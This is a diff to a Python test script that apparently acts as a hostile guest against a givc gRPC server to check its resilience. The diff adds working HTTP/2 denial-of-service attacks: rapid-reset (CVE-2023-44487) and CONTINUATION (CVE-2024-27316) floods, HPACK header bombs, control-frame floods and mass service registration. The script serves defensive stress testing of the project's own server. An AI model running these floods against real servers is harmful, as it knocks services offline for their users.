@@ -1,6 +1,6 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""What a hostile guest does to a server of givc: python3 attack.py ATTACK ADDRESS PORT DIRECTORY. Runs in a guest of a
-fleet, beside h2raw.py, with the certificates in DIRECTORY; bounded in count and in time. Prints what became of it."""
+"""What a hostile guest does to a server of givc: python3 attack.py ATTACK ADDRESS PORT DIRECTORY SECONDS. Runs in a guest of
+a fleet, beside h2raw.py, with the certificates in DIRECTORY; bounded in count and in time. Prints what became of it."""
 import collections
 import contextlib
 import select
@@ -12,16 +12,15 @@ import time
 import h2raw
 from h2raw import END_HEADERS, END_STREAM, frame, grpc_headers, grpc_message, hpack
 
-SECONDS = 3  # that one attack goes on, at most
 METHODS = ('QueryList', 'Watch', 'GetUnitStatus', 'RegisterService', 'StartVM', 'StartService', 'StartApplication', 'PauseApplication',
            'ResumeApplication', 'StopApplication', 'Poweroff', 'Reboot', 'Suspend', 'Wakeup', 'SetLocale', 'SetTimezone',
            'ListGenerations', 'SetGeneration', 'NotifyUser', 'NoSuchMethod')
 
 
 class Attacker:
-    def __init__(self, address, port, directory):
+    def __init__(self, address, port, directory, seconds):
         self.where, self.directory = (address, int(port)), directory
-        self.end = time.monotonic() + SECONDS
+        self.end = time.monotonic() + float(seconds)
 
     def going(self):
         return time.monotonic() < self.end
@@ -56,6 +55,11 @@ class Attacker:
         return 'done'
 
     # --- one for each attack
+
+    def nothing(self):
+        """What this machine's own noise is."""
+        time.sleep(max(0, self.end - time.monotonic()))
+        return 'done'
 
     def connections(self):
         """10 000, of which those that are let stay do."""
@@ -138,16 +142,22 @@ class Attacker:
                     n += len(connections)
         return f'{n} calls'
 
-    def rapid_reset(self):
-        """CVE-2023-44487, and again as soon as it is cut off."""
-        block, cut = hpack(*grpc_headers('/admin.AdminService/QueryList')), 0
+    def again_and_again(self, blocks):
+        """A flood, on a new connection as soon as it is cut off. What comes is read, or it would be lost in the end."""
+        cut = 0
         while self.going():
             with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
-                many = b''.join(frame(h2raw.HEADERS, END_HEADERS, s, block) + h2raw.rst_stream(s) for s in range(1, 4001, 2))
-                cut += self.flood(connection, [many] * 2) == 'cut off'
-                if self.going():
-                    connection.receive_end()
+                while self.going():
+                    if not self.pour(connection, blocks):
+                        cut += 1
+                        break
         return f'{cut} times cut off'
+
+    def rapid_reset(self):
+        """CVE-2023-44487."""
+        block = hpack(*grpc_headers('/admin.AdminService/QueryList'))
+        return self.again_and_again(
+            b''.join(frame(h2raw.HEADERS, END_HEADERS, s, block) + h2raw.rst_stream(s) for s in range(1, 8001, 2)))
 
     def headers(self):
         """100 MB of a header block that does not end."""
@@ -155,6 +165,48 @@ class Attacker:
             connection.send(frame(h2raw.HEADERS, 0, 1, hpack(*grpc_headers())))
             piece = frame(h2raw.CONTINUATION, 0, 1, hpack(('h', 'x' * 16000)))
             return self.flood(connection, (piece for _ in range(100_000_000 // len(piece))))
+
+    def continuations(self):
+        """Header blocks in pieces of nothing (CVE-2024-27316)."""
+        return self.again_and_again(frame(h2raw.HEADERS, 0, 1, hpack(*grpc_headers())) + frame(h2raw.CONTINUATION, 0, 1) * 10_000)
+
+    def header_bombs(self):
+        """One byte stands for a header of 4 KB that was sent before, 60 000 times in each call (RFC 7541, 7.3)."""
+        bomb = b'\x40' + h2raw.hpack(('bomb', 'x' * 4000))[1:]
+        count = 0
+        while self.going():
+            with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
+                for stream in range(1, 2001, 2):
+                    block = hpack(*grpc_headers('/admin.AdminService/QueryList')) + (bomb if stream == 1 else b'') + b'\xbe' * 60_000
+                    if not self.going() or not self.pour(connection, frame(h2raw.HEADERS, END_HEADERS | END_STREAM, stream, block)):
+                        break
+                    count += 1
+        return f'{count} calls'
+
+    def pings(self):
+        """Frames that carry nothing, of every kind."""
+        return self.again_and_again((frame(h2raw.PING, 0, 0, bytes(8)) + h2raw.settings() +
+                                     frame(h2raw.PRIORITY, 0, 1, bytes(4) + b'\x10')) * 1000)
+
+    def frames(self):
+        """Those that are read and go to waste: of types that there are not, and windows."""
+        return self.again_and_again((frame(0xFA, 0, 0, b'') + h2raw.window_update(0, 1)) * 3000)
+
+    def names(self):
+        """Units of its own, more than there is room for."""
+        def field(number, data):
+            return bytes([number << 3 | 2, len(data)]) + data
+
+        state, count = field(4, b'active') + field(5, b'running'), 0
+        with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
+            headers = hpack(*grpc_headers('/admin.AdminService/RegisterService'))
+            while self.going() and count < 20_000:
+                count += 1
+                request = grpc_message(field(1, b'unit-%d.service' % count) + field(2, b'givc-app-vm.service') + b'\x18\x0d' + field(5, state))
+                if not self.pour(connection, frame(h2raw.HEADERS, END_HEADERS, 2 * count + 1, headers) +
+                                 frame(h2raw.DATA, END_STREAM, 2 * count + 1, request)):
+                    break
+        return f'{count} units'
 
     def oversize(self):
         """Messages that say they are 4 GiB, and 16 connections of messages of 4 MB, none of which ends."""
